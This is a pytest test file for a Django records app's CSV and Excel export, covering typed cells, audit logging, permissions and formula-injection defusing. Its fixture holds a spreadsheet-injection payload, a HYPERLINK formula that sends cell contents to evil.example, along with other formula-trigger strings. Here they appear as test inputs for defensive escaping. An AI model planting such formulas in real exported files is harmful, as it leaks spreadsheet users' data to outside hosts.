"""Excel/CSV export of a list page: the filtered rows with the page's labels, typed cells, formula-safe, streamed,
audited and permission-checked."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.http import FileResponse, StreamingHttpResponse
from openpyxl import load_workbook

from conftest import VILLAGE_A, VILLAGE_B, VILLAGE_C
from minzheng import home
from minzheng.core import crypto, roles
from minzheng.core.models import AuditEntry
from minzheng.core.pages import export
from minzheng.core.tests.helpers import COUNTY, TOWNSHIP, URLS, client_for, drain, entry, local

pytestmark = [pytest.mark.django_db, pytest.mark.urls(URLS)]

HEADER = ["序号", "操作人", "动作", "区划", "金额", "金额（分存储）", "日期", "月份", "身份证号", "备注"]
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


@pytest.fixture
def county(make_user):
    return make_user(roles.COUNTY, COUNTY)


@pytest.fixture
def rows():
    """Two rows inside 城东街道 (one with hostile text), one outside it."""
    entry(VILLAGE_A, "李四", "member_add", at=local(2026, 11, 2), amount="1234.5", fen=123456,
          id_masked="330902**********1X", note=HYPERLINK)
    entry(VILLAGE_B, "-1+2", "update", at=local(2026, 11, 3), amount="-20", fen=-5, note="@SUM(A1:A2)\x07")
    entry(VILLAGE_C, "王五", "create", at=local(2026, 11, 4), amount="1")


def last_export() -> AuditEntry:
    return AuditEntry.objects.filter(action="export").order_by("-seq").first()


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    raw = drain(response)
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_export_has_the_filtered_rows_with_the_pages_labels_and_is_formula_safe(county, rows):
    response = client_for(county).get(f"/t/entries/?region={TOWNSHIP}&sort=seq&export=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"] and ".csv" in response["Content-Disposition"]
    table = read_csv(response)
    assert table[0] == HEADER
    assert len(table) == 3  # 王五 in 丙社区 is outside the filter
    first, second = table[1], table[2]
    assert first[1:6] == ["李四", "添加成员", "甲社区", "1234.50", "1234.56"]
    assert first[6:9] == ["2026-11-02", "2026-11", "330902**********1X"]
    assert first[9] == "'" + HYPERLINK
    assert second[1] == "'-1+2" and second[4:6] == ["-20.00", "-0.05"]  # numbers keep their minus sign
    assert second[9] == "'@SUM(A1:A2)\x07"


def test_xlsx_export_has_numeric_money_date_cells_labels_names_and_defused_formulas(county, rows):
    response = client_for(county).get(f"/t/entries/?region={TOWNSHIP}&sort=seq&export=xlsx")
    assert response.status_code == 200
    assert isinstance(response, FileResponse)
    assert response["Content-Type"] == export.XLSX_TYPE
    data = drain(response)
    sheet = load_workbook(io.BytesIO(data)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == HEADER
    assert sheet["A1"].font.b
    assert len(values) == 3
    money, fen = sheet["E2"], sheet["F2"]
    assert money.data_type == "n" and money.value == Decimal("1234.5") and money.number_format == "#,##0.00"
    assert fen.data_type == "n" and fen.number_format == "#,##0.00"
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>1234.5</v>" in xml and "<v>1234.56</v>" in xml and "<v>-0.05</v>" in xml  # the amounts, exactly
    day = sheet["G2"]
    assert day.is_date and day.value.date() == dt.date(2026, 11, 2) and day.number_format == "yyyy-mm-dd"
    assert values[1][2:4] == ["添加成员", "甲社区"] and values[1][7:9] == ["2026-11", "330902**********1X"]
    assert sheet["J2"].data_type == "s" and sheet["J2"].value == "'" + HYPERLINK
    assert sheet["B3"].data_type == "s" and sheet["B3"].value == "'-1+2"
    assert sheet["E3"].value == -20 and sheet["F3"].data_type == "n"
    assert sheet["J3"].value == "'@SUM(A1:A2)"  # control characters dropped: openpyxl would refuse the file
    assert not any(home.home_dir("tmp").iterdir())  # the temporary workbook is gone once sent


def test_every_export_is_audited_with_rows_format_and_masked_filters(county, rows):
    number = "330902198001011233"
    entry(VILLAGE_A, "持证人", object_id=crypto.blind_index(number))
    client = client_for(county)
    drain(client.get(f"/t/entries/?region={TOWNSHIP}&export=csv"))
    audited = last_export()
    assert (audited.actor_id, audited.object_type, audited.region_code) == (county.pk, "audit_entry", COUNTY)
    assert audited.changes == {"rows": 3, "format": "csv", "filters": {"region": TOWNSHIP}}

    drain(client.get(f"/t/entries/?id_number={number}&export=xlsx"))
    audited = last_export()
    assert audited.changes["rows"] == 1 and audited.changes["format"] == "xlsx"
    assert audited.changes["filters"] == {"id_number": "330902**********33"}  # never the plaintext number


def test_export_needs_the_export_permission_and_a_known_format(make_user, rows):
    village = client_for(make_user(roles.VILLAGE, VILLAGE_A))
    assert village.get("/t/entries/").status_code == 200
    assert village.get("/t/entries/?export=csv").status_code == 403
    county = client_for(make_user(roles.COUNTY, COUNTY))
    assert county.get("/t/entries-no-export/?export=xlsx").status_code == 403
    bad = county.get("/t/entries/?export=pdf")
    assert bad.status_code == 400 and "导出格式不正确" in bad.content.decode()
    invalid = county.get("/t/entries/?region=999&export=csv")
    assert invalid.status_code == 422 and "区划代码" in invalid.content.decode()
    assert last_export() is None


def test_export_reads_in_chunks_with_one_region_query_per_chunk(county, django_assert_max_num_queries):
    for i in range(7):
        entry([VILLAGE_A, VILLAGE_B, VILLAGE_C][i % 3], f"经办{i}")
    from minzheng.core.tests.pages_urls import EntryTable, entries_for

    queryset = entries_for(county).order_by("seq")
    with django_assert_max_num_queries(8):  # 4 chunks of 2 rows: a read and a names lookup each
        data = list(export.rows(EntryTable, queryset, chunk=2))
    assert [row[1] for row in data] == [f"经办{i}" for i in range(7)]
    assert {row[3] for row in data} == {"甲社区", "乙社区", "丙社区"}


def test_cell_conversion_is_typed_and_formula_safe():
    assert export.csv_cell(Decimal("1234.50")) == "1234.50"
    assert export.csv_cell(Decimal("1E+3")) == "1000"
    assert export.csv_cell(-3) == "-3" and export.csv_cell(None) == "" and export.csv_cell(True) == "是"
    for text in ("=1+1", "+1", "-1+2", "@x", "\tx", "\rx"):
        assert export.csv_cell(text) == "'" + text
    assert export.csv_cell("1-2") == "1-2" and export.csv_cell("张三") == "张三"
